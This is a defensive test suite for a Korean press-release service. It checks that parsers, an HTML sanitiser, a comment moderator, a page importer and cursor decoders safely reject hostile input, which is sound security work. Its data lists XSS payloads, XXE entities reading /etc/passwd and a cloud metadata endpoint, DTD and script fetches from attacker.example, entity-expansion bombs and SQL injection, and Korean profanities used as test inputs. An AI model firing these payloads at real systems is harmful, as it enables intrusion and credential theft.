"""Hostile and broken input at the plain core's boundaries (no AWS): release bodies, NewsItem XML,
HTML bodies, comment texts, saved pages, cursors. Each gets a specific rejection or a safe result,
never a crash. Hypothesis plus curated cases; the module prints how many cases it tried."""

from __future__ import annotations

import base64
import html
import json
import re
from collections.abc import Iterator
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from briefing.comments.store import _decode_cursor as decode_comment_cursor
from briefing.index.reader import ReadService
from briefing.index.store import CursorError, IndexStore, decode_cursor, encode_cursor
from briefing.moderation import CommentInput, moderate
from briefing.releases.embargo import KST
from briefing.releases.normalise import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    clean_inline_text,
    render_body,
    sanitise_html,
)
from briefing.releases.parse import ParsedRelease, Rejection, parse_payload
from briefing.storage.articles import ArticleStore
from briefing_cli.importer import PageImportError, import_page
from tests.conftest import as_json, newsitem

# Every reason a rejection may give at parse time; anything else is a new, undocumented outcome.
PARSE_REASONS = {
    "empty-message",
    "invalid-encoding",
    "invalid-json",
    "invalid-release",
    "invalid-xml",
    "too-large",
}
ISSUED: dict[str, int] = {"hypothesis": 0, "curated": 0}


@pytest.fixture(scope="module", autouse=True)
def _tally(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    report_tally(request, "unit", ISSUED)


def report_tally(request: pytest.FixtureRequest, suite: str, counts: dict[str, int]) -> None:
    """One line on the terminal (also without -s): how many hostile cases this module tried."""
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is None or capture is None:
        return
    with capture.global_and_fixture_disabled():
        reporter.write_line("")
        reporter.write_line(
            f"hostile input ({suite}): {sum(counts.values())} cases tried: "
            + ", ".join(f"{n} {kind}" for kind, n in counts.items())
        )


def tried(kind: str = "hypothesis") -> None:
    ISSUED[kind] += 1


def release(**overrides: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "agency": "외교부",
        "release_id": "mofa-2026-0001",
        "version": 1,
        "title": "제15차 한일 차관전략대화 개최 결과",
        "body": "<p>□ 외교부는 한일 차관전략대화를 개최하였다.</p>",
        "approved_at": "2026-04-13T10:00:00+09:00",
    }
    doc.update(overrides)
    return doc


def outcome_is_well_formed(results: list[ParsedRelease | Rejection]) -> None:
    assert results, "every body gives at least one outcome"
    for result in results:
        if isinstance(result, Rejection):
            assert result.reason in PARSE_REASONS
            assert result.message.strip()
        else:
            assert_safe_html(result.release.body_html)
            assert result.release.release_id and result.release.agency


# ------------------------------------------------------------------ SQS bodies → releases
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=20,
)
FIELDS = ["agency", "release_id", "version", "title", "body", "approved_at", "embargo", "status", "kind",
          "attachments", "contacts", "english_url", "body_format", "subtitles", "schema"]  # fmt: skip
NEWSITEM_FIELDS = ["NewsItemId", "ContentsStatus", "ModifyId", "ApproveDate", "EmbargoDate", "Title",
                   "DataContents", "MinisterCode", "FileName", "FileUrl", "EnglishUrl", "ContentsType"]  # fmt: skip
HOSTILE_STRINGS = st.sampled_from(
    [
        "", " ", "\x00", "\ufeff", "\u202e외교부", "외\u200b교부", "A" * 70, "9" * 30, "-1", "NaN", "1e309",
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<script>alert(1)</script>",
        "../../etc/passwd", "2026-13-45T99:99:99", "0001-01-01T00:00:00+14:00", "13/45/2026 99:99:99",
        "9999-12-31T23:59:59-23:59", "%00", "'; DROP TABLE articles; --", "ｍｏｆａ", "🙂" * 10,
    ]
)  # fmt: skip


@st.composite
def mutated_releases(draw: st.DrawFn) -> str:
    """A valid release (ours or a NewsItem) with a few fields replaced, removed or retyped."""
    if draw(st.booleans()):
        doc, names = release(), FIELDS
    else:
        doc, names = newsitem(), NEWSITEM_FIELDS
    for name in draw(st.lists(st.sampled_from(names), max_size=4, unique=True)):
        action = draw(st.sampled_from(["drop", "json", "hostile"]))
        if action == "drop":
            doc.pop(name, None)
        else:
            doc[name] = draw(JSON_VALUES if action == "json" else HOSTILE_STRINGS)
    return json.dumps(doc, ensure_ascii=draw(st.booleans()))


BODIES = (
    st.text(max_size=200)
    | JSON_VALUES.map(json.dumps)
    | mutated_releases()
    | st.builds(lambda prefix, junk: prefix + junk, st.sampled_from(["{", "[", "<", "<?xml", "\ufeff{"]), st.text(max_size=80))
)  # fmt: skip


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(BODIES)
def test_any_message_body_gives_releases_or_specific_rejections_never_a_crash(body: str) -> None:
    tried()
    outcome_is_well_formed(parse_payload(body))


@settings(max_examples=150, deadline=None)
@given(st.text(min_size=1, max_size=300))
def test_any_title_and_body_text_of_a_valid_release_is_kept_and_made_safe(text: str) -> None:
    tried()
    [result] = parse_payload(as_json(release(title=text, body=f"<p>{text}</p>")))
    if isinstance(result, Rejection):
        # Only an empty or invisible-only title may be refused, and then in words.
        assert result.reason == "invalid-release" and result.message
        return
    assert_safe_html(result.release.body_html)
    assert "<" not in result.release.title or "<" in html.unescape(text)


DEEP_JSON = "[" * 100_000 + "]" * 100_000
CURATED_BODIES = [
    ("", "empty-message"),
    ("\ufeff  \r\n", "empty-message"),
    ("본문이 JSON도 XML도 아닙니다", "invalid-json"),
    ('"just a string"', "invalid-json"),
    ("null", "invalid-json"),
    (DEEP_JSON, "invalid-json"),
    ('{"a":' * 50_000 + "1" + "}" * 50_000, "invalid-json"),
    ('{"agency": "외교부", "release_id": "a", "version": ' + "9" * 5000 + "}", "invalid-json"),
    (as_json(release(version=0)), "invalid-release"),
    (as_json(release(version=10**12)), "invalid-release"),
    (as_json(release(agency=["외교부"])), "invalid-release"),
    (as_json(release(agency={"name": "외교부"})), "invalid-release"),
    (as_json(release(release_id="../../etc/passwd")), "invalid-release"),
    (as_json(release(release_id="a" * 65)), "invalid-release"),
    (as_json(release(title="가" * 1_000_000)), "invalid-release"),  # a 1 MB string where 500 fit
    (as_json(release(body="가" * 2_000_001)), "invalid-release"),
    (as_json(release(surprise="field")), "invalid-release"),
    (as_json(release(approved_at="0001-01-01T00:00:00+14:00")), "invalid-release"),
    (as_json(release(embargo={"at": "9999-12-31T23:59:59-23:59"})), "invalid-release"),
    (as_json(release(english_url="javascript:alert(1)")), "invalid-release"),
    (as_json(release(attachments=[{"name": "붙임", "url": "data:text/html,<script>alert(1)</script>"}])), "invalid-release"),
    (json.dumps(release(title="\ud800 제목")), "invalid-release"),  # a lone surrogate via a JSON escape
    ("{\"agency\": \"외교부\ud800\"}", "invalid-encoding"),  # an unencodable body (never from SQS)
    (as_json({k: v for k, v in newsitem().items() if k != "MinisterCode"}), "invalid-release"),
    (as_json(newsitem(ModifyId="1.5")), "invalid-release"),
    (as_json(newsitem(ContentsStatus="X")), "invalid-release"),
    (as_json(newsitem(ApproveDate="내일 오전 열 시")), "invalid-release"),
    (as_json(newsitem(EnglishUrl="javascript:alert(document.cookie)")), "invalid-release"),
    (as_json(newsitem(OriginalUrl=" JaVaScRiPt:alert(1)")), "invalid-release"),
    (as_json(newsitem(FileName=["붙임.hwpx"], FileUrl=["javascript:alert(1)"])), "invalid-release"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("body", "reason"), CURATED_BODIES, ids=[f"body{i}" for i in range(len(CURATED_BODIES))]
)
def test_curated_hostile_bodies_are_rejected_with_their_reason(body: str, reason: str) -> None:
    tried("curated")
    results = parse_payload(body)
    assert [r.reason for r in results if isinstance(r, Rejection)] == [reason], results
    outcome_is_well_formed(results)


def test_an_unknown_agency_parses_and_is_left_to_the_registry() -> None:
    tried("curated")
    [parsed] = parse_payload(as_json(release(agency="존재하지않는부")))
    assert isinstance(parsed, ParsedRelease) and parsed.release.agency == "존재하지않는부"


# ------------------------------------------------------------------ NewsItem XML
ITEM = (
    "<NewsItem><NewsItemId>156754098</NewsItemId><ContentsStatus>I</ContentsStatus><ModifyId>1</ModifyId>"
    "<ApproveDate>04/12/2026 11:00:00</ApproveDate><Title>{title}</Title><ContentsType>T</ContentsType>"
    "<DataContents>□ 본문</DataContents><MinisterCode>국토교통부</MinisterCode></NewsItem>"
)
LOL = "".join(
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' if i else '<!ENTITY lol0 "lol">'
    for i in range(10)
)


def xml_rejection(body: str) -> Rejection:
    results = parse_payload(body)
    assert len(results) == 1 and isinstance(results[0], Rejection), results
    return results[0]


@pytest.mark.parametrize(
    ("name", "body", "words"),
    [
        ("billion laughs", f"<!DOCTYPE r [{LOL}]>" + ITEM.format(title="&lol9;"), "entities"),
        ("quadratic blowup", f'<!DOCTYPE r [<!ENTITY a "{"가" * 50_000}">]>' + ITEM.format(title="&a;" * 1000), "entities"),
        ("external entity", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + ITEM.format(title="&x;"), "entities"),
        ("external entity over http", '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>' + ITEM.format(title="&x;"), "entities"),
        ("parameter entity", '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>' + ITEM.format(title="t"), "entities"),
        ("nested ten thousand deep", "<response>" + "<b>" * 10_000 + "</b>" * 10_000 + "</response>", "nested"),
        ("not well-formed", ITEM.format(title="<b>열린 태그"), "well-formed"),
        ("no items", "<response><header><resultCode>00</resultCode></header><body/></response>", "no <NewsItem>"),
        ("error envelope", "<response><header><resultCode>99</resultCode></header></response>", "resultCode 99"),
        ("over five megabytes", "<response><body>" + ITEM.format(title="가" * 1_700_000) + "</body></response>", "exceeds"),
    ],
)  # fmt: skip
def test_hostile_xml_is_refused_with_a_specific_reason_and_never_expanded(
    name: str, body: str, words: str
) -> None:
    tried("curated")
    rejection = xml_rejection(body)
    assert rejection.reason in ("invalid-xml", "too-large") and words in rejection.message, rejection


def test_an_external_dtd_is_never_read(tmp_path: Path) -> None:
    """If the parser fetched the DTD, the title would read '유출된 비밀'; it must not."""
    tried("curated")
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "유출된 비밀">', encoding="utf-8")
    body = f'<!DOCTYPE NewsItem SYSTEM "{dtd.as_uri()}">' + ITEM.format(title="&secret;")
    results = parse_payload(body)
    assert all(isinstance(r, Rejection) for r in results)
    assert "유출된 비밀" not in repr(results)


def test_xinclude_is_not_processed() -> None:
    tried("curated")
    body = ITEM.format(
        title='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    )
    results = parse_payload(body)
    assert "root:" not in repr(results)


def test_one_broken_item_in_an_envelope_fails_alone() -> None:
    tried("curated")
    good = ITEM.format(title="정상 보도자료")
    broken = ITEM.replace("<ModifyId>1</ModifyId>", "<ModifyId>하나</ModifyId>").format(title="깨진 항목")
    results = parse_payload(
        f"<response><body>{good}{broken}{good.replace('156754098', '156754099')}</body></response>"
    )
    assert [type(r).__name__ for r in results] == ["ParsedRelease", "Rejection", "ParsedRelease"]


XML_SOUP = st.lists(
    st.sampled_from(
        ["<NewsItem>", "</NewsItem>", "<Title>", "</Title>", "<!DOCTYPE x>", "<![CDATA[", "]]>", "&amp;", "&x;",
         "<?pi x?>", "<!--", "-->", "가", "<ModifyId>", "</ModifyId>", "1", "<response>", "</response>", "\x00", "&#0;"]
    ),
    max_size=25,
).map(lambda parts: "<" + "".join(parts))  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(XML_SOUP)
def test_any_xml_soup_gives_a_specific_outcome(body: str) -> None:
    tried()
    outcome_is_well_formed(parse_payload(body))


# ------------------------------------------------------------------ HTML bodies
URL_ATTRIBUTES = {"href", "src"}  # style is never allowed, so no CSS expression() can survive


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            # nh3 (ammonia) keeps lang and title everywhere: inert text, escaped like any value.
            allowed = (
                ALLOWED_ATTRIBUTES.get(tag, set()) | {"lang", "title"} | ({"rel"} if tag == "a" else set())
            )
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                # Browsers drop controls and spaces, then read a scheme as RFC 3986 spells one;
                # anything else before a colon ("<p>javascript:") is a harmless relative URL.
                scheme = re.match(r"([a-z][a-z0-9+.\-]*):", re.sub(r"[\x00-\x20]", "", value).lower())
                if scheme and scheme[1] not in ("http", "https", "mailto"):
                    self.problems.append(f"{scheme[1]}: URL in {name}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")


def assert_safe_html(markup: str) -> None:
    """No executable content: only allowed tags and attributes, no script URLs, no comments."""
    inspector = _Inspector()
    inspector.feed(markup)
    inspector.close()
    assert not inspector.problems, (inspector.problems, markup)
    lowered = markup.lower()
    for needle in ("<script", "<style", "<iframe", "<svg", "<math"):  # as text they would be &lt;…
        assert needle not in lowered, (needle, markup)


CURATED_HTML = [
    "<p>본문<script>alert(1)</script></p>",
    "<p>본문<SCRIPT SRC=//attacker.example/x.js></SCRIPT></p>",
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)" onmouseover=alert(2)>클릭</p>',
    '<a href="javascript:alert(1)">붙임</a>',
    '<a href="JaVaScRiPt:alert(1)">붙임</a>',
    '<a href="jav&#x09;ascript:alert(1)">붙임</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">붙임</a>',
    '<a href=" javascript:alert(1)">붙임</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">붙임</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="vbscript:msgbox(1)">붙임</a>',
    '<p style="width: expression(alert(1))">CSS 식</p>',
    '<div style="background:url(javascript:alert(1))">배경</div>',
    "<style>p { behavior: url(x.htc) }</style><p>스타일</p>",
    '<svg><script>alert(1)</script><animate onbegin="alert(1)"/></svg>',
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    '<iframe src="https://attacker.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="https://attacker.example"><input name="pw"></form>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p>닫히지 않은 <b>굵게 <i>기울임",
    "<table><tr><td><table><tr><td><table><td>중첩</td></table></td></tr></table></td></tr></table>",
    "<ul><li>하나<li>둘<ol><li>셋</ul></ol>",
    "</p></p></table>짝 없는 닫는 태그",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="https://www.korea.kr/" target="_blank" rel="opener">정책브리핑</a>',
    '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="&quot;><script>alert(1)</script>">속성 탈출</p>',
    "<table>" + "<tr><td>셀</td></tr>" * 2000 + "</table>",
    "<div>" * 5000 + "깊은 중첩" + "</div>" * 5000,
]  # fmt: skip


@pytest.mark.parametrize("markup", CURATED_HTML, ids=[f"html{i}" for i in range(len(CURATED_HTML))])
def test_curated_html_attacks_leave_no_executable_content(markup: str) -> None:
    tried("curated")
    safe, text = render_body(markup, is_html=True)
    assert_safe_html(safe)
    assert sanitise_html(safe) == safe
    assert "alert(1)" not in text or "<script" not in text.lower()


HTML_SOUP = st.lists(
    st.sampled_from(
        ["<p>", "</p>", "<b>", "</b>", "<li>", "<ul>", "</ul>", "<table>", "<tr>", "<td>", "</table>", "<a href='",
         "javascript:", "https://www.korea.kr/", "'>", "</a>", "<img src=x onerror=alert(1)>", "<script>",
         "</script>", "<style>", "<svg onload=alert(1)>", "<!--", "-->", "<![CDATA[", "]]>", "&amp;", "&lt;",
         "&#0;", "&#x6a;avascript:", "<", ">", "\"", "'", " on", "click=", "expression(", "□ 본문", "ㅇ 항목",
         "\u200b", "\u202e", "\x00", "\n", "&nbsp;", "<h2>", "</h2>", "<caption>", "<col span=2>", "<br>"]
    ),
    max_size=40,
).map("".join)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(HTML_SOUP | st.text(max_size=120))
def test_sanitising_never_raises_is_safe_and_idempotent(markup: str) -> None:
    tried()
    safe, text = render_body(markup, is_html=True)
    assert_safe_html(safe)
    assert sanitise_html(safe) == safe
    assert render_body(safe, is_html=True) == (safe, text)


@settings(max_examples=150, deadline=None)
@given(HTML_SOUP | st.text(max_size=120))
def test_text_bodies_and_titles_never_become_markup(text: str) -> None:
    tried()
    safe, _ = render_body(text, is_html=False)
    assert_safe_html(safe)
    title = clean_inline_text(text)
    assert "\n" not in title and title == title.strip()


# ------------------------------------------------------------------ comment texts (moderation engine)
INVISIBLES = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202a", "\u202b", "\u202c", "\u202d",
              "\u2066", "\u2067", "\u2068", "\u2069", "\u034f", "\u180e"]  # fmt: skip
COMBINING = ["\u0301", "\u0300", "\u0308", "\u20dd", "\u0336"]
COMMENT_TEXTS = st.text(
    st.sampled_from(
        list("시씨발병신새끼개 ㅅㅂ0123456789-.@aZ가나다공일이!?ㅋ😀🙏🏻👍🏽🇰🇷")
        + INVISIBLES + COMBINING + ["\u202e", "Ꮪ", "Ѕ", "ｓ", "𝐬", "а", "ｅ", "\u3000", "\x00"]
    ),
    max_size=80,
) | st.text(max_size=60)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(COMMENT_TEXTS)
def test_moderation_never_raises_and_its_evidence_lies_inside_the_text(text: str) -> None:
    tried()
    decision = moderate(CommentInput("c-1", text, "author-a", "시민", "기사 본문"))
    data = decision.to_dict()
    assert data["action"] in ("publish", "review", "reject")
    assert all(1 <= rule <= 13 for rule in data["rules"])
    for finding in decision.evidence:
        assert 0 <= finding.start <= finding.end <= len(text)


def hide(word: str, separators: list[str]) -> list[str]:
    return [sep.join(word) for sep in separators] + [word[0] + sep + word[1:] for sep in separators]


PROFANITIES = ["시발", "병신", "개새끼"]


@pytest.mark.parametrize(
    "text",
    [variant for word in PROFANITIES for variant in hide(word, INVISIBLES + COMBINING)]
    + ["\u2066시발\u2069 정책", "시\u0301\u0301\u0301발", "씨\u200b발\u200b 새\u200b끼"],
)
def test_invisible_and_combining_marks_do_not_hide_a_profanity(text: str) -> None:
    tried("curated")
    data = moderate(CommentInput("c-1", text)).to_dict()
    assert data["action"] == "reject" and 4 in data["rules"], (text, data)


@pytest.mark.parametrize("text", ["\u202e발시", "\u2067발시\u2069", "\u202e신병"])
def test_a_right_to_left_override_does_not_hide_a_profanity(text: str) -> None:
    data = moderate(CommentInput("c-1", text)).to_dict()
    assert data["action"] == "reject" and 4 in data["rules"], (text, data)


@pytest.mark.parametrize(
    "text",
    ["가나다라 " * 20_000, "\u200b" * 100_000, "😀" * 100_000, "a\u0301" * 50_000, "ㅋ" * 100_000,
     "시발 " * 30_000, "010-1234-5678 " * 7_000, "https://a.example/" * 5_000],
    ids=["korean", "zero-width", "emoji", "combining", "jamo", "profanity", "phones", "links"],
)  # fmt: skip
def test_a_100k_character_comment_is_decided(text: str) -> None:
    tried("curated")
    data = moderate(CommentInput("c-1", text)).to_dict()
    assert data["action"] in ("publish", "review", "reject")


def test_only_emoji_is_a_decision_not_an_error() -> None:
    tried("curated")
    assert moderate(CommentInput("c-1", "👍👍👍🇰🇷🙏🏻")).to_dict()["action"] in (
        "publish",
        "review",
        "reject",
    )


# ------------------------------------------------------------------ saved pages (importer)
PAGE_HEADER = "<html><body><h2>{title}</h2><p>2024.06.28 외교부</p><div>{body}</div>"
PAGE_SOUP = st.lists(
    st.sampled_from(
        ["<div>", "</div>", "<p>", "</p>", "<script>", "</script>", "<a href='javascript:x'>", "</a>", "영문보도자료",
         "2024.06.28 외교부", "2024.99.99 외교부", "제목", "□ 본문입니다.", "\n", "<!--", "-->", "<br>", "목록",
         "newsId=1234567", "<nav>", "</nav>", "<div class='share'>", "이 자료는 외교부의 보도자료를 전재하여 제공함",
         "\x00", "\u200b", "<pre>", "</pre>", "&amp;", "<"]
    ),
    max_size=40,
).map("".join)  # fmt: skip


def assert_imported_release_is_valid(result: dict[str, Any]) -> None:
    [parsed] = parse_payload(
        as_json({k: v for k, v in result.items() if k not in {"source", "english_version"}})
    )
    assert isinstance(parsed, ParsedRelease), parsed
    assert_safe_html(parsed.release.body_html)
    assert result["english_url"] is None or result["english_url"].startswith(("http://", "https://"))


@settings(max_examples=250, deadline=None)
@given(PAGE_SOUP | st.text(max_size=200))
# a comment never closed: a browser hides the rest, so must the import (it once made a markup title)
@example("<!--<div><div>2024.06.28 외교부<div>제목")
@example("<p>2024.06.28 외교부</p><h2>&lt;!--제목</h2><p>□ 본문입니다.</p>")
def test_any_saved_page_is_imported_or_refused_in_words(content: str) -> None:
    tried()
    try:
        result = import_page(content)
    except PageImportError as exc:
        assert str(exc)
        return
    assert_imported_release_is_valid(result)


@pytest.mark.parametrize(
    "body",
    ["<script>alert(1)</script><p>□ 본문입니다.</p>", '<p onclick="alert(1)">□ 본문입니다.</p><img src=x onerror=alert(1)>',
     "<div>" * 3000 + "□ 깊이 중첩된 본문" + "</div>" * 3000, "<p>□ 닫히지 않은 본문<b><i>", "<p>□ 본문\x00널</p>",
     "<p>□ " + "아주 긴 본문. " * 50_000 + "</p>"],
    ids=["script", "handlers", "deep", "unclosed", "nul", "huge"],
)  # fmt: skip
def test_hostile_saved_pages_import_without_executable_content(body: str) -> None:
    tried("curated")
    page = PAGE_HEADER.format(title="제15차 한일 차관전략대화 개최 결과", body=body) + (
        '<a href="javascript:openEng(1)">영문보도자료 바로가기(Eng. Version)</a></body></html>'
    )
    result = import_page(page)
    assert "alert" not in result["body"] and result["english_url"] is None
    assert_imported_release_is_valid(result)


# ------------------------------------------------------------------ cursors and ids of the read API
@settings(max_examples=300, deadline=None)
@given(
    st.text(max_size=80)
    | st.binary(max_size=60).map(lambda b: base64.urlsafe_b64encode(b).decode())
    | JSON_VALUES.map(lambda v: base64.urlsafe_b64encode(json.dumps(v).encode()).decode().rstrip("="))
)
def test_any_cursor_decodes_or_is_refused_in_words(cursor: str) -> None:
    tried()
    try:
        data = decode_cursor(cursor, "all")
    except CursorError as exc:
        assert "cursor" in str(exc)
    else:
        assert data["l"] == "all" and isinstance(data["k"], str) and isinstance(data["s"], str)
    try:
        key = decode_comment_cursor(cursor, "AC#156754098")
    except ValueError as exc:
        assert "cursor" in str(exc)
    else:
        assert key["gsi1pk"] == {"S": "AC#156754098"}


@pytest.mark.parametrize(
    "key",
    [{}, {"foo": "bar"}, {"pk": {"S": "x"}}, {"pk": {"N": "1"}, "sk": {"S": "COMMENT"}, "gsi1pk": {"S": "AC#1"}, "gsi1sk": {"S": "x"}},
     {"pk": {"S": "C#1"}, "sk": {"S": "COMMENT"}, "gsi1pk": {"S": "REVIEW"}, "gsi1sk": {"S": "x"}},
     {"pk": {"S": "U#victim"}, "sk": {"S": "STATE"}, "gsi1pk": {"S": "AC#156754098"}, "gsi1sk": {"S": "x"}}],
    ids=["empty", "unknown", "partial", "wrong-type", "other-list", "other-item"],
)  # fmt: skip
def test_a_hand_made_comment_cursor_is_refused(key: dict[str, Any]) -> None:
    tried("curated")
    cursor = base64.urlsafe_b64encode(json.dumps({"l": "AC#156754098", "k": key}).encode()).decode()
    with pytest.raises(ValueError, match="cursor"):
        decode_comment_cursor(cursor, "AC#156754098")


def test_a_hand_made_list_cursor_cannot_resume_after_now() -> None:
    """Cursors are not signed; one resuming in the future would list embargoed articles."""
    tried("curated")
    reader = ReadService(ArticleStore("unused"), IndexStore("unused"))  # refused before any AWS call
    now = datetime(2026, 4, 13, 12, 0, tzinfo=KST)
    future = encode_cursor({"l": "all", "s": "2026-04", "k": "2026-04-13T07:00:00Z#2002"})
    with pytest.raises(CursorError, match="past what is published"):
        reader.list_articles(now, cursor=future)
    other_list = encode_cursor({"l": "agency#외교부", "s": "2026", "k": "2026-04-01T00:00:00Z#1"})
    with pytest.raises(CursorError, match="another list"):
        reader.list_articles(now, cursor=other_list)
